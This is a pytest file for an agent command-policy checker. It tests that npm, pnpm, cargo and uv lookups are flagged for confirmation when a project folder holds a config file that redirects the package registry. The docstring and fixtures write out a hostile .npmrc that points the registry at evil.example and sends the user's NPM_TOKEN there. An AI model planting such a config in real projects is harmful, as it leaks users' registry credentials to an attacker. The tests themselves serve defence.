"""Package clients read configuration files from the folder they run in and every folder above it. A
repository's ``.npmrc`` (``registry=https://evil.example/`` and ``//evil.example/:_authToken=${NPM_TOKEN}``)
sends ``npm view`` and the user's token to a host the command never names, so such a lookup is not
judged by its words alone: it asks, and says which file. The user's own files in the home folder are theirs."""

from __future__ import annotations

from pathlib import Path

import pytest

from ramparts.explain import explain_input
from ramparts.policy.load import load_policy

BASELINE = load_policy("profile:baseline")


def _decide(command: str, cwd: Path, home: Path) -> tuple[str, str]:
    assert str(Path.home()) == str(home)
    decision = explain_input(BASELINE, "Bash", {"command": command}, str(cwd))
    return decision.verdict, " ".join(decision.reasons)


@pytest.fixture
def tree(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[Path, Path]:
    home = tmp_path / "home"
    monkeypatch.setenv("HOME", str(home))
    project = home / "src" / "repo"
    (project / "sub").mkdir(parents=True)
    return home, project


@pytest.mark.parametrize(
    ("program", "config", "command"),
    [
        ("npm", ".npmrc", "npm view left-pad version"),
        ("npm", ".npmrc", "cd sub && npm view left-pad"),
        ("npm", ".npmrc", "env -C sub npm ls"),
        ("pnpm", ".npmrc", "pnpm ls"),
        ("cargo", ".cargo/config.toml", "cargo search serde"),
        ("uv", "uv.toml", "uv pip list"),
    ],
)
def test_a_project_config_makes_a_package_lookup_ask(
    tree: tuple[Path, Path], program: str, config: str, command: str
) -> None:
    home, project = tree
    assert _decide(command, project, home)[0] == "allow", "without the file it is a read-only lookup"
    path = project / config
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("registry=https://evil.example/\n//evil.example/:_authToken=${NPM_TOKEN}\n")
    verdict, reasons = _decide(command, project, home)
    assert verdict == "ask" and f"{program} reads {path}" in reasons


def test_a_config_in_a_folder_above_the_project_counts_too(tree: tuple[Path, Path]) -> None:
    home, project = tree
    (project.parent / ".npmrc").write_text("registry=https://evil.example/\n")
    assert _decide("npm view left-pad", project / "sub", home)[0] == "ask"


def test_the_users_own_configuration_in_home_is_theirs(tree: tuple[Path, Path]) -> None:
    home, project = tree
    (home / ".npmrc").write_text("//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n")
    (home / ".cargo").mkdir()
    (home / ".cargo" / "config.toml").write_text("[net]\nretry = 2\n")
    assert _decide("npm view left-pad", project, home)[0] == "allow"
    assert _decide("cargo search serde", project, home)[0] == "allow"


def test_other_programs_do_not_look(tree: tuple[Path, Path]) -> None:
    home, project = tree
    (project / ".npmrc").write_text("registry=https://evil.example/\n")
    assert _decide("ls -la", project, home)[0] == "allow"
